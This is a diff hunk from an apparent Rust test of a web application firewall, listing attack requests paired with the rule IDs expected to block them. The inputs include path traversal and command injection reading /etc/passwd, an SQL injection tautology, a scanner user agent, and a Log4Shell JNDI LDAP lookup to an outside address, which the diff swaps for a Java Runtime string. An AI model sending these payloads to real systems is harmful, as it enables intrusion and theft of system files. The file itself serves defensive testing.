@@ -174,7 +174,7 @@ fn the_core_rule_set_holds_beside_the_built_in_rules() {
         ("/blocked?file=../../../../etc/passwd", &[], "930100"),
         ("/blocked?x=%3Bcat%20/etc/passwd", &[], "932"),
         ("/blocked", &["-A", "Nikto/2.1"], "913100"),
-        ("/blocked", &["-d", "a=${jndi:ldap://192.0.2.1/x}"], "944"),
+        ("/blocked", &["-d", "a=java.lang.Runtime"], "944100"),
         ("/blocked", &["-X", "TRACK"], "911100"),
         ("/admin/blocked", &[], "2"),
         ("/blocked?id=1%27%20or%20%271%27=%271", &[], "sqli-tautology"),
